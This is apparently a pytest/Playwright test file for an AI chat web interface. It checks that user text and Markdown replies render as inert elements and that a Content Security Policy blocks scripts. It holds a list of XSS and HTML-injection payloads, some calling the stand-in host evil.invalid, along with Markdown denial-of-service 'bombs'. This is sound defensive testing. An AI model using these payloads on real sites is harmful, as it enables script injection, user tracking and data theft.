"""Whatever is said is text, and what a reply says in Markdown becomes nothing but harmless elements."""

import json

import pytest

from .visit import expect

PAYLOADS = [
    "<script>alert(1)</script>",
    "<script src=https://evil.invalid/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.invalid/pixel>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data=https://evil.invalid></object><embed src=https://evil.invalid>",
    "<link rel=stylesheet href=https://evil.invalid/x.css>",
    "<style>@import 'https://evil.invalid/x.css'; * { display: none }</style>",
    "<meta http-equiv=refresh content='0; url=https://evil.invalid'>",
    "<base href=https://evil.invalid/>",
    "<form action=https://evil.invalid><button>Retry</button></form>",
    "<a href=javascript:alert(1)>click</a> [click](javascript:alert(1)) ![](https://evil.invalid/pixel)",
    "<details open ontoggle=alert(1)><input autofocus onfocus=alert(1)>",
    "</p></li></ol></main><h1>Gone</h1>",
    "</textarea></title><!--",
    '"><b>quoted</b>',
    "' onmouseover=alert(1) x='",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62;",
    "<template><script>alert(1)</script></template><dialog open>Key?</dialog>",
    "${alert(1)} {{constructor.constructor('alert(1)')()}} <%= alert(1) %>",
    "data: [DONE]\n\ndata: {}\n\nevent: error",
    "\u202eright to left\u202c \x00\x07\x1b[31mred\x1b[0m \u2028 \ufeff",
    "$& $1 \\u003cb\\u003e __proto__ constructor",
]


# Replies in Markdown, the elements that they become, and where their links lead.
MARKDOWN = [
    ("[click](javascript:alert(1))", "p", []),
    ("[click](JavaScript:alert(1)) [click](&#106;avascript:alert(1)) [click](java\tscript:alert(1))", "p", []),
    ("[click](\x01javascript:alert(1)) [click](<javascript:alert(1)>) <javascript:alert(1)>", "p", []),
    ("[click](vbscript:x) [click](data:text/html,<script>alert(1)</script>) [click](file:///etc/passwd)", "p", []),
    ("[click](blob:x) [click](//evil.invalid) [click](/v1/models) [click](#x) [click]()", "p", []),
    ("[click][x]\n\n[x]: javascript:alert(1)\n\n[y]: https://evil.invalid", "p p p", []),
    ("[click](https://evil.invalid/?q=1 'onclick=alert(1)')", "p a", ["https://evil.invalid/?q=1"]),
    (
        '[click](https://evil.invalid/"onmouseover="alert(1))',
        "p a",
        ["https://evil.invalid/%22onmouseover=%22alert(1)"],
    ),
    ("<https://evil.invalid> <who@evil.invalid>", "p a a", ["https://evil.invalid", "mailto:who@evil.invalid"]),
    ("![tea](https://evil.invalid/pixel.png)", "p a", ["https://evil.invalid/pixel.png"]),
    (
        "![](https://evil.invalid/<script>) ![x](data:image/svg+xml,<svg/onload=alert(1)>)",
        "p a",
        ["https://evil.invalid/%3Cscript%3E"],
    ),
    ("[![tea](https://evil.invalid/a)](https://evil.invalid/b)", "p a", ["https://evil.invalid/b"]),
    ("[<img src=x onerror=alert(1)>](https://evil.invalid)", "p a", ["https://evil.invalid"]),
    ("**<b>bold</b>** *<svg onload=alert(1)>*", "p strong em", []),
    ("```html onload=alert(1)\n<script>alert(1)</script>\n```", "pre code", []),
    ("`<script>alert(1)</script>` ``<b>``", "p code code", []),
    ("    <script>alert(1)</script>", "pre code", []),
    ("> <iframe src=javascript:alert(1)>\n\n- <style>* { display: none }</style>", "blockquote p ul li", []),
    ("# <script>alert(1)</script>\n\n<b>x</b>\n===", "h3 h3", []),
    ("|<b>a</b>|b|\n|:-:|-|\n|<img src=x onerror=alert(1)>|~~c~~|", "table thead tr th th tbody tr td td s", []),
    ("<div\n\n**a**\n\n</div>\n\n<!-- **b** -->\n\n<?php **c** ?>", "p p strong p p strong p strong", []),
    ("9. a\n10. b\n\n---", "ol li li hr", []),
]
ATTRIBUTES = {
    "a": {"href", "title", "target", "rel"}, "ol": {"start"}, "pre": {"tabindex"}, "th": {"style"}, "td": {"style"},
}  # fmt: skip


def elements(visit, turn):
    """Return (name, attributes) of each element in the text of a turn."""
    return (
        visit.turns.nth(turn)
        .locator(".text")
        .evaluate(
            """(text) => [...text.querySelectorAll("*")].map(({ localName, attributes }) =>
          [localName, Object.fromEntries([...attributes].map(({ name, value }) => [name, value]))])"""
        )
    )


def test_whatever_is_said_is_shown_as_text(visit, server):
    for text in PAYLOADS:
        server.will_say(text)
        visit.say(text)
    for _ in ("as it came", "as it was kept"):
        assert visit.texts()[::2] == PAYLOADS
        for turn, payload in enumerate(PAYLOADS):
            assert elements(visit, 2 * turn) == []
            replied = elements(visit, 2 * turn + 1)
            assert {name for name, _ in replied} <= {"p", "strong", "a"}
            assert all(name == "a" or not attributes for name, attributes in replied)
            if not set("*_[&\0") & set(payload) and "\n\n" not in payload:
                assert visit.texts()[2 * turn + 1] == payload
        visit.tab.reload()


@pytest.mark.parametrize("pieces", ["whole", "by_character"])
def test_markdown_becomes_elements_from_a_fixed_list(visit, server, pieces):
    for text, _, _ in MARKDOWN:
        server.will_say(*([text] if pieces == "whole" else text))
        visit.say("And?")
    for turn, (text, names, links) in enumerate(MARKDOWN):
        found = elements(visit, 2 * turn + 1)
        assert " ".join(name for name, _ in found) == names, text
        assert [attributes["href"] for name, attributes in found if name == "a"] == links, text
        for name, attributes in found:
            assert {*attributes} <= ATTRIBUTES.get(name, set())
            if name == "a":
                assert (attributes["target"], attributes["title"]) == ("_blank", attributes["href"])
                assert "noopener" in attributes["rel"]


BOMBS = {
    "emphasis": "*a **a " * 4000 + "a** a*" * 4000,
    "open emphasis": "*a_" * 10_000,
    "nested emphasis": "**x *" * 5000 + "y" + "* x**" * 5000,
    "strikes": "~~a~" * 8000,
    "brackets": "[" * 15_000 + "a" + "]" * 15_000,
    "links": "[a](<b" * 6000,
    "quotes": "> " * 10_000 + "a",
    "lists": "- " * 10_000 + "a",
    "deeper lists": "\n".join("  " * depth + "- a" for depth in range(150)),
    "table": "|a" * 5000 + "\n" + "|-" * 5000 + "\n" + "|a" * 5000,
    "code": "".join("e" + "`" * number for number in range(200)),
    "tags": "<a " * 10_000,
    "comments": "<!--" * 8000,
    "entities": "&" * 30_000,
    "a stop": "a." * 15_000 + "@",
}


def seconds_computed(tab):
    """By the tab's own thread, whatever else the machine has to do."""
    session = tab.context.new_cdp_session(tab)
    session.send("Performance.enable", {"timeDomain": "threadTicks"})
    metrics = session.send("Performance.getMetrics")["metrics"]
    session.detach()
    return next(metric["value"] for metric in metrics if metric["name"] == "ThreadTime")


@pytest.mark.parametrize("name", BOMBS)
def test_a_bomb_of_markdown_costs_little_and_loses_no_text(visit, name):
    began = seconds_computed(visit.tab)
    depth, text = visit.tab.evaluate(
        """async (bomb) => {
          const { MarkdownView } = await import("/markdown.js");
          const element = document.createElement("div");
          new MarkdownView(element).show(bomb);
          let deepest = 0;
          for (const leaf of element.querySelectorAll("*")) {
            let depth = 0;
            for (let above = leaf; above !== element; above = above.parentElement) depth += 1;
            deepest = Math.max(deepest, depth);
          }
          return [deepest, element.textContent];
        }""",
        BOMBS[name],
    )
    assert seconds_computed(visit.tab) - began < 5
    assert depth <= 21
    for letter in "axy":
        assert text.count(letter) == BOMBS[name].count(letter) or name == "code"


def test_markup_in_all_other_places_is_text_too(visit, server):
    everything = " ".join(PAYLOADS).replace("\n", " ").replace("\x00", "")
    server.restart(name=everything)
    visit.tab.reload()
    visit.configure(system=everything)
    visit.answer_once(status=500, body=json.dumps({"error": {"message": everything}}))
    visit.say(everything)
    expect(visit.trouble).to_contain_text("alert(1)")
    visit.tab.reload()
    visit.button("Edit").click()
    visit.tab.keyboard.press("Escape")
    visit.tab.get_by_role("button", name="History").click()
    expect(visit.tab.get_by_role("heading", name="alert(1)").first).to_be_visible()
    found = visit.tab.evaluate("[...document.querySelectorAll('*')].map((element) => element.localName)")
    assert not set(found) & {"img", "iframe", "object", "embed", "base", "svg", "style", "details", "b"}
    assert visit.tab.evaluate("document.scripts.length") == 2


def test_the_policy_is_in_force(visit):
    """So that its silence in all other tests says something."""
    with visit.tab.expect_console_message(lambda message: message.type == "error"):
        visit.tab.evaluate(
            """() => {
              const script = document.createElement("script");
              script.textContent = "window.hasRun = true";
              document.body.append(script);
            }"""
        )
    assert visit.tab.evaluate("window.hasRun") is None
    assert "Content Security Policy" in visit.troubles.pop()
